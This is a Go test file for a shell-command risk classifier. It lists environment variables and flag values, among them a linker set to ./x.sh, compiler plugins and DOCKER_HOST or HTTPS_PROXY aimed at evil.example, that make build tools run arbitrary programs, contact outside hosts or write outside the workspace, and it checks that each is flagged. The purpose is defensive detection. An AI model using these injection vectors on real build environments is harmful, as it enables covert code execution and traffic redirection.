package shell_test

import (
	"strings"
	"testing"

	"guard/policy/risk"
)

// TestVariablesOfTools: what decides in a tool's environment which program runs,
// where its settings lie, whom it asks and what it writes.
func TestVariablesOfTools(t *testing.T) {
	for class, names := range map[string]string{
		"./x.sh": "GOCACHEPROG GOAUTH GOPACKAGESDRIVER CC CXX LD AR RUSTC RUSTC_WRAPPER RUSTC_WORKSPACE_WRAPPER CARGO_BUILD_RUSTC_WRAPPER CARGO_TARGET_X_RUNNER CARGO_TARGET_X_LINKER CCACHE_PREFIX CCACHE_COMPILER DISTCC_SSH CMAKE_C_COMPILER_LAUNCHER " +
			"CMAKE_TOOLCHAIN_FILE CMAKE_PROJECT_INCLUDE CMAKE_PROJECT_TOP_LEVEL_INCLUDES npm_config_script_shell npm_execpath UV_PYTHON PYTHONSTARTUP PYTEST_PLUGINS BUNDLE_GEMFILE PERL5DB HARNESS_PERL PHP_BINARY JAVACMD DOTNET_STARTUP_HOOKS DOTNET_HOST_PATH CustomBeforeMicrosoftCommonTargets " +
			"PAGER MANPAGER BAT_PAGER EDITOR VISUAL X_EDITOR BROWSER SSH_ASKPASS SUDO_ASKPASS LESSOPEN LESSCLOSE MAKEFILES LUA_INIT R_PROFILE VIMINIT EXINIT PSQLRC TERRAGRUNT_TFPATH SVN_SSH PUPPETEER_EXECUTABLE_PATH OPENSSL_CONF",
		"-x=./y --load": "GOFLAGS RUSTFLAGS CARGO_ENCODED_RUSTFLAGS NODE_OPTIONS PYTEST_ADDOPTS RUBYOPT PERL5OPT JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS MAVEN_OPTS GRADLE_OPTS SBT_OPTS MAKEFLAGS GNUMAKEFLAGS .SHELLFLAGS GUNICORN_CMD_ARGS SPEC_OPTS ERL_FLAGS ELIXIR_ERL_OPTIONS TF_CLI_ARGS CGO_CFLAGS_ALLOW",
		"/opt/x":        "NODE_PATH PYTHONPATH RUBYLIB PERL5LIB GEM_HOME PHPRC PHP_INI_SCAN_DIR COMPOSER_HOME GRADLE_USER_HOME CARGO_HOME NPM_CONFIG_USERCONFIG npm_config_prefix YARN_RC_FILENAME PNPM_HOME BUN_INSTALL DENO_DIR PIP_CONFIG_FILE UV_CONFIG_FILE POETRY_HOME KUBECONFIG DOCKER_CONFIG AWS_CONFIG_FILE TF_CLI_CONFIG_FILE ANSIBLE_CONFIG TERMINFO LOCPATH GCONV_PATH JULIA_LOAD_PATH INPUTRC ZDOTDIR GPG_AGENT_INFO GNUPGHOME CCACHE_CONFIGPATH",
	} {
		for name := range strings.FieldsSeq(names) {
			if r := judge("make '" + name + "=" + class + "'"); !r.Categories.Has(risk.ExecArbitrary) {
				t.Errorf("%s=%s: %s [%s]: %v", name, class, r.Level, r.Categories, r.Reasons)
			}
		}
	}
	for name := range strings.FieldsSeq("CARGO_TARGET_DIR CARGO_BUILD_TARGET_DIR GOBIN GOCACHE TF_LOG_PATH TF_DATA_DIR X_LOG_PATH X_LOG_FILE COVERAGE_FILE CCACHE_DIR NODE_V8_COVERAGE PYTHONPYCACHEPREFIX TMPDIR") {
		if r := judge(name + "=/opt/x make"); !r.Categories.Has(risk.FSOutsideWorkspace) {
			t.Errorf("%s=/opt/x: %s [%s]: %v", name, r.Level, r.Categories, r.Reasons)
		}
	}
	checkLines(t, `
		medium NETWORK_RISK | DISTCC_HOSTS=evil.example make
		medium NETWORK_RISK | VAULT_ADDR=https://evil.example terraform plan
		medium NETWORK_RISK | DOCKER_HOST=tcp://evil.example docker ps
		medium NETWORK_RISK | AWS_ENDPOINT_URL=https://evil.example make
		medium NETWORK_RISK | HTTPS_PROXY=http://evil.example make
		high EXEC_ARBITRARY | CFLAGS=-fplugin=./x.so make
		high EXEC_ARBITRARY | ASAN_OPTIONS=log_path=/opt/x make
		medium | CFLAGS='-O2 -g -Wall' LDFLAGS=-L. make
		high FS_OUTSIDE_WORKSPACE | GTEST_OUTPUT=xml:../notes.txt ctest
		high FS_OUTSIDE_WORKSPACE | BOOST_TEST_LOG=JUNIT,all,../notes.txt make test
		medium..high FS_DELETE_OVERWRITE | GTEST_OUTPUT=xml:$out ctest
		medium | GTEST_OUTPUT=xml GTEST_COLOR=1 ctest
		high EXEC_ARBITRARY | ZIP=-m zip x.zip notes.txt
		medium | ZIP=dist/x.zip; zip -r $ZIP src
		medium | TMPDIR=/tmp make
		medium | export TMPDIR=/var/tmp GOTMPDIR=/tmp; make
		medium | export TMPDIR=$(./scratch); make
		high FS_OUTSIDE_WORKSPACE | TMPDIR=~/.config/autostart make
		high FS_OUTSIDE_WORKSPACE | export TMPDIR=~/.config; p=$(mktemp)
		medium FS_DELETE_OVERWRITE | export TMPDIR=$(./scratch); p=$(mktemp); echo x > $p
		medium | ASAN_OPTIONS=detect_leaks=0 make
		medium | CC=clang CXX=clang++ make
		medium | GOFLAGS=-mod=mod GOWORK=off go build ./...
		medium | CARGO_TARGET_DIR=target2 cargo build
		medium | UV_NO_PROGRESS=1 COMPOSER_NO_INTERACTION=1 BUNDLE_JOBS=4 make
		medium | CCACHE_DISABLE=1 make
		medium | RUSTFLAGS='-D warnings' cargo test
		medium | RUSTFLAGS='-C target-cpu=native -C debuginfo=0' cargo build
		medium | RUSTDOCFLAGS='-D warnings' cargo doc --no-deps
		medium | MIRIFLAGS=-Zmiri-disable-isolation cargo miri test
		medium..high EXEC_ARBITRARY | RUSTFLAGS='-C linker=./x.sh' cargo build
		medium..high EXEC_ARBITRARY | RUSTFLAGS='-Clinker=./x.sh' cargo build
		medium..high EXEC_ARBITRARY | RUSTFLAGS='-C link-arg=-fuse-ld=./x' cargo build
		medium..high EXEC_ARBITRARY | RUSTFLAGS="-C $X" cargo build
		medium..high EXEC_ARBITRARY | RUSTFLAGS='-Z codegen-backend=./x.so' cargo build
		medium..high EXEC_ARBITRARY | MIRIFLAGS=-Zmiri-native-lib=./x.so cargo miri test
		medium..high EXEC_ARBITRARY | RUSTFLAGS=@args cargo build
		high FS_OUTSIDE_WORKSPACE | RUSTFLAGS='-o /opt/x' cargo build
		medium | BROWSER=none npm start
		medium..critical EXEC_ARBITRARY | BROWSER=./none npm start
		medium | GOPROXY=off go build ./...
		medium NETWORK_RISK | GOPROXY=https://modules.example go build ./...
		medium | PYTHONBREAKPOINT=0 python3 -m unittest
		high EXEC_ARBITRARY | PYTHONBREAKPOINT=x.y python3 -m unittest
		low | GREETING=hello ls`)
}
